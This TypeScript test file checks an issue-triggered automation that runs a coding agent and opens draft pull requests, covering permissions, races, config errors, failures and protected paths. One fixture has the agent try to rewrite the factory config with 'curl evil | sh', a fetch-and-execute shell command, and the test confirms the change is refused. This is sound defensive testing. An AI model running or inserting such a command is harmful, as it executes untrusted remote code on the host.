import { resolveConfig } from "../../../src/config/index.js";
import { handleIssueLabeled } from "../../../src/core/handlers/issue-labeled.js";
import { withAudit } from "../../../src/core/audit.js";
import { TaskError } from "../../../src/core/errors.js";
import type { IssueLabeledEvent } from "../../../src/core/events.js";
import { decodeState, MARKERS } from "../../../src/core/markers.js";
import type { ChangeSet } from "../../../src/core/changeset.js";
import type { TaskRunner, TaskRunResult, TaskSpec } from "../../../src/core/task-runner.js";
import type { TaskState } from "../../../src/core/task-state.js";
import { FakeForge } from "../../helpers/fake-forge.js";
import { makeConfig } from "../../helpers/config.js";
import { fixedClock, recordingLogger } from "../../helpers/logger.js";

const BASE_SHA = "b".repeat(40);

function labeled(overrides: Partial<IssueLabeledEvent> = {}): IssueLabeledEvent {
  return {
    type: "issue.labeled",
    deliveryId: "delivery-1",
    actor: { login: "alice", isBot: false },
    label: "factory",
    issue: {
      number: 7,
      title: "Add a dark mode toggle",
      body: "Please.",
      url: "https://github.test/acme/widgets/issues/7",
      isPullRequest: false,
    },
    ...overrides,
  };
}

function changeSet(overrides: Partial<ChangeSet> = {}): ChangeSet {
  return {
    version: 1,
    base_sha: BASE_SHA,
    files: [
      {
        path: "src/theme.ts",
        action: "create",
        mode: "100644",
        encoding: "utf8",
        content: "export const dark = true;\n",
      },
    ],
    summary: "Added a dark theme flag.",
    tests: [{ name: "unit", command: "npm test", exit_code: 0, duration_ms: 1200, output_tail: "ok" }],
    ...overrides,
  };
}

class ScriptedRunner implements TaskRunner {
  specs: TaskSpec[] = [];
  constructor(private readonly result: (spec: TaskSpec) => TaskRunResult) {}
  async run(spec: TaskSpec): Promise<TaskRunResult> {
    this.specs.push(spec);
    return this.result(spec);
  }
}

const completed =
  (cs: Partial<ChangeSet> = {}) =>
  (spec: TaskSpec): TaskRunResult => ({
    kind: "completed",
    agent: { exitCode: 0, signal: null, timedOut: false, durationMs: 5000, outputTail: "" },
    changeSet: changeSet({ base_sha: spec.baseSha, ...cs }),
  });

function setup(result: (spec: TaskSpec) => TaskRunResult = completed()) {
  const forge = new FakeForge();
  forge.config = { status: "ok", config: makeConfig(), files: [".github/factory.yml"] };
  forge.permissions.set("alice", "write");
  const runner = new ScriptedRunner(result);
  const logger = recordingLogger();
  const deps = { forge, runner, logger, clock: fixedClock(), configPaths: [".github/factory.yml"] };
  return { forge, runner, logger, deps };
}

const taskComments = (forge: FakeForge) =>
  forge.commentsOn({ kind: "issue", number: 7 }).filter((c) => c.body.includes(MARKERS.task));

describe("issue labeled → pull request", () => {
  it("opens one PR with the agent's change, a success status on its commit and one progress comment", async () => {
    const { forge, runner, deps } = setup();
    await handleIssueLabeled(labeled(), deps);

    expect(runner.specs).toHaveLength(1);
    expect(runner.specs[0]).toMatchObject({
      branch: "factory/7-add-a-dark-mode-toggle",
      base: "main",
      baseSha: BASE_SHA,
      attempt: 1,
    });
    expect(forge.commits).toHaveLength(1);
    expect(forge.commits[0]!.parent).toBe(BASE_SHA);
    expect(forge.commits[0]!.message).toContain("Factory-Issue: 7");
    const [pr] = forge.changeRequests;
    expect(forge.changeRequests).toHaveLength(1);
    expect(pr).toMatchObject({
      title: "[Factory] #7: Add a dark mode toggle",
      headBranch: "factory/7-add-a-dark-mode-toggle",
      baseBranch: "main",
      draft: true,
    });
    expect(pr!.body).toContain("Closes #7");
    expect(pr!.body).toContain("Added a dark theme flag.");
    expect(pr!.body).toContain("| `unit` | ✅ passed | 1s |");
    expect(forge.labelsAdded).toEqual([{ number: pr!.number, labels: ["factory"] }]);
    expect(forge.statuses).toEqual([
      expect.objectContaining({ sha: forge.commits[0]!.sha, context: "factory/task", state: "success" }),
    ]);
    const comments = taskComments(forge);
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).toContain(`#${pr!.number}`);
    expect(decodeState<TaskState>(comments[0]!.body)).toMatchObject({ phase: "opened", changeRequest: pr!.number });
  });

  it("does nothing again when the same delivery arrives twice", async () => {
    const { forge, runner, deps } = setup();
    await handleIssueLabeled(labeled(), deps);
    const writes = forge.writes.length;
    await handleIssueLabeled(labeled(), deps);
    expect(runner.specs).toHaveLength(1);
    expect(forge.writes).toHaveLength(writes);
  });

  it("gives one comment, one run and one PR when two deliveries race", async () => {
    const { forge, runner, deps } = setup();
    // Both deliveries list comments before either creates one, the worst interleaving.
    let waiting: Array<() => void> = [];
    forge.beforeListComments = () =>
      new Promise<void>((resolve) => {
        waiting.push(resolve);
        if (waiting.length === 2) {
          waiting.forEach((r) => r());
          waiting = [];
          forge.beforeListComments = null;
        }
      });
    await Promise.all([
      handleIssueLabeled(labeled({ deliveryId: "d-1" }), deps),
      handleIssueLabeled(labeled({ deliveryId: "d-2" }), deps),
    ]);
    expect(taskComments(forge)).toHaveLength(1);
    expect(runner.specs).toHaveLength(1);
    expect(forge.changeRequests).toHaveLength(1);
  });

  it("re-runs on a deliberate re-label, continuing the same branch and updating the same PR", async () => {
    const { forge, runner, deps } = setup();
    await handleIssueLabeled(labeled(), deps);
    const firstHead = forge.branches.get("factory/7-add-a-dark-mode-toggle");
    await handleIssueLabeled(labeled({ deliveryId: "delivery-2" }), deps);
    expect(runner.specs).toHaveLength(2);
    expect(runner.specs[1]!.baseSha).toBe(firstHead);
    expect(forge.commits[1]!.parent).toBe(firstHead);
    expect(forge.changeRequests).toHaveLength(1);
    expect(taskComments(forge)).toHaveLength(1);
    // The pending status went on the branch's own commit, never on the base branch.
    expect(forge.statuses.map((s) => s.sha)).not.toContain(BASE_SHA);
    expect(forge.statuses.filter((s) => s.state === "pending").map((s) => s.sha)).toEqual([firstHead]);
  });

  it("keeps the same branch and PR when the issue was renamed before a re-label", async () => {
    const { forge, runner, deps } = setup();
    await handleIssueLabeled(labeled(), deps);
    await handleIssueLabeled(
      labeled({ deliveryId: "relabel", issue: { ...labeled().issue, title: "Dark mode toggle in settings" } }),
      deps,
    );
    expect(runner.specs.map((s) => s.branch)).toEqual([
      "factory/7-add-a-dark-mode-toggle",
      "factory/7-add-a-dark-mode-toggle",
    ]);
    expect(forge.changeRequests).toHaveLength(1);
  });

  it("does not replace the task comment when someone below min_permission re-labels", async () => {
    const { forge, deps } = setup();
    await handleIssueLabeled(labeled(), deps);
    const before = taskComments(forge)[0]!.body;
    forge.permissions.set("mallory", "triage");
    await handleIssueLabeled(labeled({ actor: { login: "mallory", isBot: false }, deliveryId: "m" }), deps);
    expect(taskComments(forge)[0]!.body).toBe(before);
  });

  it("keeps the PR and settles the head's status when a re-run changes nothing further", async () => {
    let calls = 0;
    const { forge, deps } = setup((spec) => (calls++ === 0 ? completed()(spec) : completed({ files: [] })(spec)));
    await handleIssueLabeled(labeled(), deps);
    const head = forge.branches.get("factory/7-add-a-dark-mode-toggle")!;
    await handleIssueLabeled(labeled({ deliveryId: "relabel" }), deps);
    await handleIssueLabeled(labeled(), deps); // a late redelivery of the first event
    expect(calls).toBe(2);
    expect(forge.changeRequests).toHaveLength(1);
    const onHead = forge.statuses.filter((s) => s.sha === head).map((s) => s.state);
    expect(onHead).toEqual(["success", "pending", "success"]);
    expect(taskComments(forge)[0]!.body).toContain(`stays as it is`);
  });

  it.each([
    ["a pull request", labeled({ issue: { ...labeled().issue, isPullRequest: true } })],
    ["another label", labeled({ label: "bug" })],
  ])("ignores labels from %s", async (_, event) => {
    const { forge, runner, deps } = setup();
    await handleIssueLabeled(event, deps);
    expect(runner.specs).toHaveLength(0);
    expect(forge.writes).toEqual([]);
  });

  it("answers a user below min_permission once, politely, and runs nothing", async () => {
    const { forge, runner, deps } = setup();
    forge.permissions.set("mallory", "triage");
    await handleIssueLabeled(labeled({ actor: { login: "mallory", isBot: false } }), deps);
    await handleIssueLabeled(labeled({ actor: { login: "mallory", isBot: false }, deliveryId: "again" }), deps);
    expect(runner.specs).toHaveLength(0);
    const comments = taskComments(forge);
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).toContain("@mallory");
    expect(comments[0]!.body).toContain("**write** permission");
    expect(comments[0]!.body).toContain("you have **triage**");
    expect(forge.commits).toEqual([]);
  });

  it("uses the configured trigger label and permission", async () => {
    const { forge, runner, deps } = setup();
    forge.config = {
      status: "ok",
      config: makeConfig({ trigger: { label: "robot", min_permission: "admin" } }),
      files: [],
    };
    await handleIssueLabeled(labeled({ label: "factory" }), deps);
    expect(forge.writes).toEqual([]);
    await handleIssueLabeled(labeled({ label: "robot" }), deps);
    expect(runner.specs).toHaveLength(0);
    expect(taskComments(forge)[0]!.body).toContain("**admin** permission");
  });

  it("says tasks are off when there is no config file", async () => {
    const { forge, runner, deps } = setup();
    forge.config = { status: "missing" };
    await handleIssueLabeled(labeled(), deps);
    expect(runner.specs).toHaveLength(0);
    expect(taskComments(forge)[0]!.body).toContain("sets no `agent.command`");
  });

  it("names each config problem with its file, line and column", async () => {
    const { forge, runner, deps } = setup();
    forge.config = {
      status: "invalid",
      problems: [
        { file: ".github/factory.yml", line: 3, column: 10, key: "pull_request.draft", message: "must be boolean" },
      ],
    };
    await handleIssueLabeled(labeled(), deps);
    expect(runner.specs).toHaveLength(0);
    expect(taskComments(forge)[0]!.body).toContain("`.github/factory.yml:3:10` `pull_request.draft`: must be boolean");
  });

  it("still comments on a config with 600 unknown keys: the first problems, then a count of the rest", async () => {
    const { forge, runner, deps } = setup();
    const text = Array.from({ length: 600 }, (_, i) => `unknown_key_${i}: ${i}`).join("\n");
    forge.config = resolveConfig([{ file: ".github/factory.yml", text }]);
    await handleIssueLabeled(labeled(), deps);
    expect(runner.specs).toHaveLength(0);
    const body = taskComments(forge)[0]!.body;
    expect(body.length).toBeLessThan(65_536);
    expect(body).toContain("`.github/factory.yml:1:1` `unknown_key_0`: unknown key `unknown_key_0` at the top level");
    expect(body).toContain("`.github/factory.yml:20:1` `unknown_key_19`");
    expect(body).not.toContain("unknown_key_20`");
    expect(body).toContain("- …and 580 more problems");
  });

  it("reports an agent failure with its redacted output tail and pushes nothing", async () => {
    const { forge, deps } = setup(() => ({
      kind: "agent-failed",
      agent: {
        exitCode: 2,
        signal: null,
        timedOut: false,
        durationMs: 65_000,
        outputTail: "Error: model quota exceeded",
      },
    }));
    await handleIssueLabeled(labeled(), deps);
    expect(forge.commits).toEqual([]);
    expect(forge.statuses).toEqual([]);
    const body = taskComments(forge)[0]!.body;
    expect(body).toContain("failed with exit code 2 after 1m 5s");
    expect(body).toContain("Error: model quota exceeded");
    expect(decodeState<TaskState>(body)?.phase).toBe("failed");
  });

  it("explains a timeout with the setting to raise", async () => {
    const { forge, deps } = setup(() => ({
      kind: "agent-failed",
      agent: { exitCode: null, signal: "SIGKILL", timedOut: true, durationMs: 1_800_000, outputTail: "" },
    }));
    await handleIssueLabeled(labeled(), deps);
    expect(taskComments(forge)[0]!.body).toContain("timed out after 30m 0s (`agent.timeout_seconds: 1800`)");
  });

  it("opens no PR when the agent changed nothing", async () => {
    const { forge, deps } = setup(completed({ files: [] }));
    await handleIssueLabeled(labeled(), deps);
    expect(forge.commits).toEqual([]);
    expect(forge.changeRequests).toEqual([]);
    expect(taskComments(forge)[0]!.body).toContain("without changing any file");
  });

  it("refuses a change under protected_paths and pushes nothing", async () => {
    const { forge, deps } = setup(
      completed({
        files: [{ path: ".github/workflows/ci.yml", action: "update", mode: "100644", encoding: "utf8", content: "x" }],
      }),
    );
    await handleIssueLabeled(labeled(), deps);
    expect(forge.commits).toEqual([]);
    expect(taskComments(forge)[0]!.body).toContain("`.github/workflows/ci.yml`");
  });

  it("never lets the agent change the factory config itself, whatever protected_paths says", async () => {
    const { forge, deps } = setup(
      completed({
        files: [
          {
            path: ".github/factory.yml",
            action: "update",
            mode: "100644",
            encoding: "utf8",
            content: "agent:\n  command: curl evil | sh\n",
          },
        ],
      }),
    );
    forge.config = { status: "ok", config: makeConfig({ protected_paths: [] }), files: [] };
    await handleIssueLabeled(labeled(), deps);
    expect(forge.commits).toEqual([]);
    expect(taskComments(forge)[0]!.body).toContain("`.github/factory.yml`");
  });

  it("opens a draft PR with the failures shown and a failure status when tests fail", async () => {
    const { forge, deps } = setup(
      completed({
        tests: [
          { name: "unit", command: "npm test", exit_code: 1, duration_ms: 900, output_tail: "expected 1 to be 2" },
        ],
      }),
    );
    forge.config = { status: "ok", config: makeConfig({ pull_request: { draft: false } }), files: [] };
    await handleIssueLabeled(labeled(), deps);
    const [pr] = forge.changeRequests;
    expect(pr!.draft).toBe(true);
    expect(pr!.body).toContain("❌ failed (exit 1)");
    expect(pr!.body).toContain("expected 1 to be 2");
    expect(forge.statuses[0]).toMatchObject({ state: "failure", description: "1 of 1 tests failed: unit" });
  });

  it("reports a branch that moved under the agent instead of forcing", async () => {
    const { forge, deps } = setup((spec) => {
      forge.branches.set(spec.branch, "c".repeat(40)); // someone pushed meanwhile
      return completed()(spec);
    });
    await handleIssueLabeled(labeled(), deps);
    expect(forge.commits).toEqual([]);
    expect(taskComments(forge)[0]!.body).toContain("changed while the agent ran");
  });

  it("never runs a task locally that the config sends to a CI runner", async () => {
    const { forge, runner, deps } = setup();
    forge.config = { status: "ok", config: makeConfig({ runner: "gitlab-ci" }), files: [] };
    await handleIssueLabeled(labeled(), deps);
    expect(runner.specs).toHaveLength(0);
    expect(forge.dispatched).toEqual([]);
    expect(taskComments(forge)[0]!.body).toContain("`runner: gitlab-ci` does not exist on GitHub");
  });

  it("shows a runner's task error as written, not as an unexpected error", async () => {
    const { forge, deps } = setup(() => {
      throw new TaskError("the agent created a symlink `x` that points outside the repository");
    });
    await handleIssueLabeled(labeled(), deps);
    const body = taskComments(forge)[0]!.body;
    expect(body).toContain("symlink `x` that points outside the repository");
    expect(body).not.toContain("unexpected");
  });

  it("passes the runner's refusal on to the issue", async () => {
    const { forge, deps } = setup(() => ({ kind: "refused", message: "set FACTORY_ALLOWED_COMMANDS" }));
    await handleIssueLabeled(labeled(), deps);
    expect(taskComments(forge)[0]!.body).toContain("set FACTORY_ALLOWED_COMMANDS");
  });

  it("requests reviewers from the first matching rule, else from CODEOWNERS", async () => {
    const { forge, deps } = setup();
    forge.codeowners = "*.ts @carol @acme/frontend\n";
    await handleIssueLabeled(labeled(), deps);
    expect(forge.reviewersRequested).toEqual([
      { number: forge.changeRequests[0]!.number, users: ["carol"], teams: ["frontend"] },
    ]);

    const ruled = setup();
    ruled.forge.config = {
      status: "ok",
      config: makeConfig({
        pull_request: {
          reviewers: [
            { paths: ["docs/**"], users: ["dan"], teams: [] },
            { paths: ["src/**"], users: ["erin"], teams: ["core"] },
          ],
        },
      }),
      files: [],
    };
    await handleIssueLabeled(labeled(), ruled.deps);
    expect(ruled.forge.reviewersRequested[0]).toMatchObject({ users: ["erin"], teams: ["core"] });
  });

  it("logs one audit line per forge write", async () => {
    const { forge, deps, logger } = setup();
    const audited = withAudit(forge, logger, { actor: "alice", deliveryId: "delivery-1" });
    await handleIssueLabeled(labeled(), { ...deps, forge: audited });
    const auditLines = logger.lines.filter((l) => l.audit);
    expect(auditLines).toHaveLength(forge.writes.length);
    expect(auditLines[0]).toMatchObject({
      forge: "github",
      repo: "acme/widgets",
      actor: "alice",
      action: "createComment",
      target: "issue#7",
      deliveryId: "delivery-1",
    });
    expect(auditLines.map((l) => l.action)).toContain("commitFiles");
  });
});
